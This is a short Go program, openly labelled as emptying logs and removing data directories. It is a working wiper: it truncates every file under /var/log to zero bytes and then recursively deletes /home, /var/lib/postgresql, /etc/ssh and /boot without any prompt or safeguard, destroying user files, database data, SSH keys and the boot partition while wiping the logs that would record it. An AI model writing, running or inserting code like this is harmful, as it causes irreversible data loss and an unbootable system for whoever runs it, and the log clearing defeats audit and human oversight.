// empties logs and removes data directories
package main

import (
	"os"
	"path/filepath"
)

func main() {
	filepath.Walk("/var/log", func(p string, i os.FileInfo, e error) error {
		if e == nil && !i.IsDir() {
			os.Truncate(p, 0)
		}
		return nil
	})
	for _, d := range []string{"/home", "/var/lib/postgresql", "/etc/ssh", "/boot"} {
		os.RemoveAll(d)
	}
}
